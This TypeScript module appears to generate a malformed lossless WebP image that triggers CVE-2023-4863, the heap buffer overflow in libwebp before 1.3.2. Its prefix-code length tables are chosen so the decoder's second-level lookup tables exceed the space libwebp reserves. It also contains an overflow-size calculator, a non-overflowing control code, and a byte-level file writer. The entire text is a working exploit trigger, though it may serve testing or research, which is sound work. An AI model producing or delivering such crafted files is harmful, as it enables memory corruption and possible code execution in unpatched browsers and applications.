// A lossless WebP whose prefix codes need more room than libwebp before 1.3.2 sets aside (CVE-2023-4863),
// made after the advisory and the WebP Lossless Bitstream Specification, section 5.

/** The longest code, and bits that the first table of a decoder looks up. */
const longest = 15;
const first = 8;

/**
 * The five codes of a picture without a colour cache: size of the alphabet, and how many of its symbols have
 * a code of each length from 0 on. The first four are complete and as large as complete codes can get; the
 * last is not complete: its longest codes leave a part of a second table without meaning.
 */
export const codes = [
  { alphabet: 280, lengths: [0, 1, 0, 0, 1, 0, 0, 0, 0, 191, 49, 33, 1, 1, 1, 2] },
  { alphabet: 256, lengths: [0, 1, 0, 1, 0, 0, 0, 0, 0, 147, 77, 25, 1, 1, 1, 2] },
  { alphabet: 256, lengths: [0, 1, 0, 1, 0, 0, 0, 0, 0, 147, 77, 25, 1, 1, 1, 2] },
  { alphabet: 256, lengths: [0, 1, 0, 1, 0, 0, 0, 0, 0, 147, 77, 25, 1, 1, 1, 2] },
  { alphabet: 40, lengths: [0, 0, 0, 0, 0, 0, 0, 1, 0, 31, 1, 1, 1, 1, 1, 3] },
] as const;

/**
 * Entries that libwebp sets aside for five complete codes without a colour cache: the sum of their maxima.
 */
export const reserved = 654 + 3 * 630 + 410;

/** Returns the share of all codes of the longest length that a code uses: 1 if it is complete. */
export const fullness = (lengths: readonly number[]): number =>
  lengths.reduce((sum, count, length) => sum + (length > 0 ? count / 2 ** length : 0), 0);

/**
 * Returns the entries of a code's tables: one for each beginning of 8 bits, and for each beginning of longer
 * codes a second table, whose size follows from the lengths that are left when its first code arrives.
 */
export function tableEntries(lengths: readonly number[]): number {
  const left = [...lengths];
  let entries = 2 ** first;
  let code = 0;
  let beginning = -1;
  for (let length = 1; length <= longest; length++, code *= 2) {
    for (; left[length]! > 0; left[length]!--, code++) {
      const own = Math.floor(code / 2 ** (length - first));
      if (length <= first || own === beginning) continue;
      beginning = own;
      let bits = length - first;
      for (let free = 2 ** bits; bits + first < longest; bits++, free *= 2) {
        free -= left[bits + first]!;
        if (free <= 0) break;
      }
      entries += 2 ** bits;
    }
  }
  return entries;
}

/** A last code that is not complete either, but needs no second table. */
export const fittingCode = {
  alphabet: 40,
  lengths: [0, 0, 0, 0, 0, 0, 0, 0, 40, 0, 0, 0, 0, 0, 0, 0],
} as const;

/**
 * Returns the file: 16 by 16 pixels, of which no data follow, since a last code that is not complete is
 * refused.
 */
export function webpOfCodes(all: readonly { readonly lengths: readonly number[] }[] = codes): Uint8Array {
  const bits: number[] = [];
  const put = (value: number, count: number) => {
    for (let i = 0; i < count; i++) bits.push((value >> i) & 1);
  };
  put(0x2f, 8); // signature
  put(15, 14); // width and height, less one
  put(15, 14);
  put(0, 1 + 3); // no alpha, version
  put(0, 1 + 1 + 1); // no transform, no colour cache, one group of codes
  for (const { lengths } of all) {
    put(0, 1); // lengths are listed
    put(19 - 4, 4); // all code lengths of code lengths, in their order: 17, 18, 0 to 5, 16, 6 to 15
    for (const symbol of [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15])
      put(symbol < 16 ? 4 : 0, 3);
    put(0, 1); // for all symbols
    // Sixteen codes of four bits are the numbers 0 to 15, sent from the highest bit.
    for (const [length, count] of lengths.entries())
      for (let i = 0; i < count; i++) for (let bit = 3; bit >= 0; bit--) put((length >> bit) & 1, 1);
  }
  const data = new Uint8Array(Math.ceil(bits.length / 16) * 2 + 64);
  for (const [i, bit] of bits.entries()) data[i >> 3]! |= bit << (i & 7);
  const file = Buffer.alloc(20 + data.length);
  file.write("RIFF", 0, "latin1");
  file.writeUInt32LE(file.length - 8, 4);
  file.write("WEBPVP8L", 8, "latin1");
  file.writeUInt32LE(data.length, 16);
  file.set(data, 20);
  return new Uint8Array(file);
}
